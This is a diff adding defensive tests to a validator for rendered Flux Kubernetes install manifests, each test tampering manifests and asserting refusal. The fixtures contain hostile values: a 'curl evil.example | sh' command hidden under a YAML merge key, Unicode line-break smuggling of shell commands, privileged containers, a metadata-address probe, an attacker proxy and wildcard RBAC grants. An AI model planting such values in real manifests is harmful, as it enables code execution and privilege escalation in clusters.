@@ -36,6 +36,19 @@ function find(all: KubeObject[], kind: string, name: string): KubeObject {
   return o;
 }
 
+type PodSpec = Record<string, unknown> & { containers: Record<string, unknown>[] };
+type PodTemplate = { metadata: { labels: Record<string, string>; annotations: Record<string, string> }; spec: PodSpec };
+
+/** The pod template of controller `name`'s Deployment. */
+function templateOf(all: KubeObject[], name: string): PodTemplate {
+  return (find(all, "Deployment", name).spec as { template: PodTemplate }).template;
+}
+
+/** The pod spec of controller `name`'s Deployment. */
+function podOf(all: KubeObject[], name: string): PodSpec {
+  return templateOf(all, name).spec;
+}
+
 function renderInput(manifests: string, version = "v2.7.5"): FluxRenderInput {
   return {
     version,
@@ -217,6 +230,177 @@ describe("release rules", () => {
       `  - ClusterRole "flux-view" appears twice\n` +
       `  - CustomResourceDefinition "kustomizations.kustomize.toolkit.fluxcd.io" converts its objects with strategy "Webhook"; Flux's CRDs use none\n` +
       `  - Service "flux-system/source-controller" is of type "LoadBalancer"; Flux's Services are ClusterIP`);
+  });
+
+  it("accept `flux install --export`'s spellings: a Linux node selector, =true, the runtime namespace in --events-addr, another log level", () => {
+    const exported = tampered((all) => {
+      for (const d of all.filter((o) => o.kind === "Deployment")) {
+        const pod = podOf(all, d.metadata.name);
+        pod.nodeSelector = { "kubernetes.io/os": "linux" };
+        pod.containers[0]!.args = (pod.containers[0]!.args as string[]).map((a) => a
+          .replace("notification-controller.flux-system.", "notification-controller.$(RUNTIME_NAMESPACE).")
+          .replace(/^--watch-all-namespaces$/, "--watch-all-namespaces=true")
+          .replace("--log-level=info", "--log-level=debug"));
+      }
+    });
+    assert.doesNotThrow(() => render(exported));
+  });
+
+  it("accept v2.6's Deployments (GOMAXPROCS, no labels on the pod but app) and images pinned by digest", () => {
+    const v26 = tampered((all) => {
+      for (const d of all.filter((o) => o.kind === "Deployment")) {
+        const template = templateOf(all, d.metadata.name);
+        template.metadata.labels = { app: d.metadata.name };
+        const env = template.spec.containers[0]!.env as unknown[];
+        env.splice(env.length - 1, 0, { name: "GOMAXPROCS", valueFrom: { resourceFieldRef: { containerName: "manager", resource: "limits.cpu" } } });
+      }
+      podOf(all, "source-controller").containers[0]!.image = `ghcr.io/fluxcd/source-controller@sha256:${"a".repeat(64)}`;
+      podOf(all, "helm-controller").containers[0]!.image = `ghcr.io/fluxcd/helm-controller:v1.4.5@sha256:${"b".repeat(64)}`;
+    });
+    assert.doesNotThrow(() => render(v26));
+  });
+
+  it("refuse a \"<<\" key, which the committed YAML carries bare and Flux reads as a merge key", () => {
+    const text = tampered((all) => { podOf(all, "kustomize-controller").containers[0]!["<<"] = { command: ["sh", "-c", "curl evil.example | sh"] }; });
+    assert.match(text, /^ +<<:$/m, "the yaml package writes it as a merge key");
+    assertRefused(text, `install.yaml: Deployment "flux-system/kustomize-controller" has a "<<" (merge) key in spec.template.spec.containers[0], ` +
+      `which Flux would not read back from Git as written; ${FIX}`);
+  });
+
+  it("refuse line breaks YAML readers disagree on (U+0085, U+2028, U+2029) and control characters, naming where, never showing them", () => {
+    const smuggled = "flux-system\u2028        command: [sh, -c, id]";
+    const text = tampered((all) => {
+      const c = podOf(all, "kustomize-controller").containers[0]!;
+      (c.env as Record<string, unknown>[])[0] = { name: "RUNTIME_NAMESPACE", value: smuggled };
+      (c.args as string[]).push("--log-level=info\u2029--no-remote-bases=false");
+      find(all, "Namespace", "flux-system").metadata.labels!["team\u0085command"] = "x";
+      ((find(all, "CustomResourceDefinition", "kustomizations.kustomize.toolkit.fluxcd.io").spec as { names: Record<string, unknown> }).names).kind = "Kustomization\u001b[2J";
+    });
+    assert.throws(() => render(text), (err: Error) => {
+      assert.equal(err.message, `install.yaml: 6 problems; ${FIX}:\n` +
+        "  - Namespace \"flux-system\" has a line break or control character in a key of metadata.labels, which Flux would not read back from Git as written\n" +
+        "  - CustomResourceDefinition \"kustomizations.kustomize.toolkit.fluxcd.io\" has a line break or control character in spec.names.kind, " +
+        "which Flux would not read back from Git as written\n" +
+        "  - Deployment \"flux-system/kustomize-controller\" has a line break or control character in spec.template.spec.containers[0].args[5], " +
+        "which Flux would not read back from Git as written\n" +
+        "  - Deployment \"flux-system/kustomize-controller\" has a line break or control character in spec.template.spec.containers[0].env[0].value, " +
+        "which Flux would not read back from Git as written\n" +
+        "  - Deployment \"flux-system/kustomize-controller\" passes \"--log-level\" to container \"manager\" with a value no Flux release passes\n" +
+        "  - Deployment \"flux-system/kustomize-controller\" sets environment variable \"RUNTIME_NAMESPACE\" in container \"manager\" to another value than a release's");
+      for (const hidden of ["\u0085", "\u2028", "\u2029", "\u001b", "command", "no-remote-bases"]) assert.ok(!err.message.includes(hidden), hidden);
+      return true;
+    });
+  });
+
+  it("refuse pod and container fields no release sets: exec probes and hooks, init containers, a second container, a weaker securityContext", () => {
+    const text = tampered((all) => {
+      const pod = podOf(all, "kustomize-controller");
+      const c = pod.containers[0]!;
+      (c.livenessProbe as Record<string, unknown>).exec = { command: ["sh", "-c", "id"] };
+      (c.readinessProbe as { httpGet: Record<string, unknown> }).httpGet.host = "169.254.169.254";
+      c.lifecycle = { postStart: { exec: { command: ["sh", "-c", "id"] } } };
+      c.securityContext = { ...(c.securityContext as object), allowPrivilegeEscalation: true, capabilities: { drop: ["ALL"], add: ["SYS_ADMIN"] }, runAsUser: 0, privileged: true };
+      (c.ports as Record<string, unknown>[])[0]!.hostPort = 8080;
+      pod.initContainers = [{ name: "init", image: "busybox", command: ["sh"] }];
+      pod.containers.push({ name: "sidecar", image: "ghcr.io/fluxcd/kustomize-controller:v1.7.3", securityContext: c.securityContext });
+      pod.securityContext = { fsGroup: 1337, runAsUser: 0 };
+      (pod.volumes as unknown[]).push({ name: "token", secret: { secretName: "x" } }, { name: "scratch", emptyDir: { medium: "Memory" } });
+      pod.tolerations = [{ operator: "Exists" }];
+    });
+    const d = `Deployment "flux-system/kustomize-controller"`;
+    const weaker = "(allowPrivilegeEscalation, capabilities, runAsUser); a release runs every controller with no privilege escalation, " +
+      "all capabilities dropped, a read-only root filesystem, a non-root user, the RuntimeDefault seccomp profile";
+    assertRefused(text, `install.yaml: 12 problems; ${FIX}:\n` +
+      `  - ${d} sets spec.template.spec.containers[0].readinessProbe.httpGet.host, which no Flux release sets\n` +
+      `  - ${d} sets spec.template.spec.containers[0].livenessProbe.exec, which no Flux release sets\n` +
+      `  - ${d} sets spec.template.spec.containers[0].lifecycle, which no Flux release sets\n` +
+      `  - ${d} sets spec.template.spec.volumes[1].secret, which no Flux release sets\n` +
+      `  - ${d} sets spec.template.spec.initContainers, which no Flux release sets\n` +
+      `  - ${d} sets spec.template.spec.tolerations, which no Flux release sets\n` +
+      `  - ${d} runs containers "manager", "sidecar"; a release runs one, "manager"\n` +
+      `  - ${d} changes the securityContext of container "manager" ${weaker}\n` +
+      `  - ${d} changes the securityContext of container "sidecar" ${weaker}\n` +
+      `  - ${d} asks for host access (privileged container "manager", privileged container "sidecar", hostPort 8080), which no Flux controller has\n` +
+      `  - ${d} has volume "scratch"; a release's volumes are empty emptyDirs named data, tmp, temp\n` +
+      `  - ${d} sets spec.template.spec.securityContext to {"fsGroup":1337,"runAsUser":0}; a release has {"fsGroup":1337} or none`);
+  });
+
+  it("refuse flags and environment a release does not pass: the lockdown's own flags, other flags and values, \"--\", positional arguments", () => {
+    const text = tampered((all) => {
+      const kc = podOf(all, "kustomize-controller").containers[0]!;
+      (kc.args as string[]).push("--no-remote-bases=false", "--insecure-kubeconfig-exec=true", "--feature-gates=AnyGate=true", "--log-level=trace", "--", "positional");
+      (kc.env as unknown[]).push({ name: "HTTPS_PROXY", value: "http://evil.example:3128" });
+      const sc = podOf(all, "source-controller").containers[0]!;
+      (sc.args as string[])[6] = "--storage-adv-addr=evil.example.com";
+      sc.image = "ghcr.io/fluxcd/source-controller:latest";
+      (sc.env as Record<string, unknown>[]).find((e) => e.name === "TUF_ROOT")!.value = "/data/tuf";
+    });
+    const sc = `Deployment "flux-system/source-controller"`;
+    const kc = `Deployment "flux-system/kustomize-controller"`;
+    assertRefused(text, `install.yaml: 10 problems; ${FIX}:\n` +
+      `  - ${sc} runs image "ghcr.io/fluxcd/source-controller:latest" in container "manager"; a release runs ghcr.io/fluxcd/source-controller:<tag> ` +
+      "(flux.registry rewrites it for a mirror)\n" +
+      `  - ${sc} passes "--storage-adv-addr" to container "manager" with a value no Flux release passes\n` +
+      `  - ${sc} sets environment variable "TUF_ROOT" in container "manager" to another value than a release's\n` +
+      `  - ${kc} passes the lockdown flag "--no-remote-bases" to container "manager"; the package adds the lockdown flags itself\n` +
+      `  - ${kc} passes "--insecure-kubeconfig-exec" to container "manager", which no Flux release passes\n` +
+      `  - ${kc} passes "--feature-gates" to container "manager", which no Flux release passes\n` +
+      `  - ${kc} passes "--log-level" to container "manager" with a value no Flux release passes\n` +
+      `  - ${kc} ends the flags of container "manager" with "--" (argument 10); a release passes flags only\n` +
+      `  - ${kc} passes argument 11 to container "manager", which is not a flag; a release passes flags only\n` +
+      `  - ${kc} sets environment variable "HTTPS_PROXY" in container "manager", which no Flux release sets`);
+  });
+
+  it("refuse ClusterRoles granting more than the release's, crd-controller included, and flux-edit aggregated into view", () => {
+    const text = tampered((all) => {
+      const crd = find(all, "ClusterRole", "crd-controller").rules as Record<string, unknown>[];
+      crd.push({ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }, { nonResourceURLs: ["*"], verbs: ["*"] });
+      crd[6]!.verbs = ["get", "list", "watch", "create"];
+      (find(all, "ClusterRole", "flux-view").rules as Record<string, unknown>[])[0]!.verbs = ["*"];
+      const edit = find(all, "ClusterRole", "flux-edit");
+      (edit.rules as unknown[]).push({ apiGroups: ["source.toolkit.fluxcd.io"], resources: ["gitrepositories"], resourceNames: ["x"], verbs: ["get"] });
+      edit.metadata.labels!["rbac.authorization.k8s.io/aggregate-to-view"] = "true";
+    });
+    assertRefused(text, `install.yaml: 6 problems; ${FIX}:\n` +
+      `  - ClusterRole "crd-controller" grants apiGroups [""], resources ["namespaces","secrets","configmaps","serviceaccounts"], verbs ["get","list","watch","create"] ` +
+      "in rule 7, beyond what a release's crd-controller grants\n" +
+      `  - ClusterRole "crd-controller" grants apiGroups ["*"], resources ["*"], verbs ["*"] in rule 14, beyond what a release's crd-controller grants\n` +
+      `  - ClusterRole "crd-controller" grants nonResourceURLs ["*"], verbs ["*"] in rule 15, beyond what a release's crd-controller grants\n` +
+      `  - ClusterRole "flux-edit" carries label "rbac.authorization.k8s.io/aggregate-to-view", which no Flux release puts there\n` +
+      `  - ClusterRole "flux-edit" grants apiGroups ["source.toolkit.fluxcd.io"], resources ["gitrepositories"], resourceNames ["x"], verbs ["get"] in rule 2, ` +
+      "beyond what a release's flux-edit grants\n" +
+      `  - ClusterRole "flux-view" grants apiGroups ["notification.toolkit.fluxcd.io","source.toolkit.fluxcd.io","source.extensio..., ` +
+      `resources ["*"], verbs ["*"] in rule 1, beyond what a release's flux-view grants`);
+  });
+
+  it("refuse labels, annotations, policies, quotas, accounts and Services other than the release's", () => {
+    const text = tampered((all) => {
+      const labels = find(all, "Namespace", "flux-system").metadata.labels!;
+      Object.assign(labels, { "capsule.clastix.io/tenant": "x", "pod-security.kubernetes.io/enforce": "privileged", "pod-security.kubernetes.io/warn": "privileged" });
+      const sa = find(all, "ServiceAccount", "source-controller");
+      sa.metadata.annotations = { "eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/admin" };
+      sa.imagePullSecrets = [{ name: "x" }];
+      Object.assign(find(all, "Service", "notification-controller").spec as object, { clusterIP: "10.0.0.10", selector: { app: "kustomize-controller" } });
+      (find(all, "NetworkPolicy", "allow-scraping").spec as Record<string, unknown>).ingress = [{ from: [{ namespaceSelector: {} }] }];
+      all.push({ apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: { name: "allow-all", namespace: "flux-system" }, spec: { podSelector: {}, ingress: [{}] } });
+      ((find(all, "ResourceQuota", "critical-pods").spec as { hard: Record<string, unknown> }).hard).pods = "1";
+      const pod = templateOf(all, "helm-controller").metadata;
+      pod.annotations["container.apparmor.security.beta.kubernetes.io/manager"] = "unconfined";
+      pod.labels.app = "notification-controller";
+    });
+    assertRefused(text, `install.yaml: 12 problems; ${FIX}:\n` +
+      `  - Namespace "flux-system" carries label "pod-security.kubernetes.io/warn" "privileged"; a release gives it "restricted"\n` +
+      `  - Namespace "flux-system" carries label "capsule.clastix.io/tenant", which no Flux release puts there\n` +
+      `  - Namespace "flux-system" carries label "pod-security.kubernetes.io/enforce", which no Flux release puts there\n` +
+      `  - ResourceQuota "flux-system/critical-pods" has another spec than the one a release ships\n` +
+      `  - ServiceAccount "flux-system/source-controller" sets imagePullSecrets, which no Flux release sets\n` +
+      `  - ServiceAccount "flux-system/source-controller" carries annotation "eks.amazonaws.com/role-arn", which no Flux release puts there\n` +
+      `  - Service "flux-system/notification-controller" sets spec.clusterIP, which no Flux release sets\n` +
+      `  - Service "flux-system/notification-controller" sets spec.selector to {"app":"kustomize-controller"}; a release has {"app":"notification-controller"}\n` +
+      `  - Deployment "flux-system/helm-controller" carries pod label "app" "notification-controller"; a release gives it "helm-controller"\n` +
+      `  - Deployment "flux-system/helm-controller" carries pod annotation "container.apparmor.security.beta.kubernetes.io/manager", which no Flux release puts there\n` +
+      `  - NetworkPolicy "flux-system/allow-scraping" has another spec than the one a release ships\n` +
+      `  - NetworkPolicy "flux-system/allow-all" is not one of Flux's NetworkPolicies (allow-egress, allow-scraping, allow-webhooks)`);
   });
 
   it("refuse manifests labelled with another release than flux.version", () => {
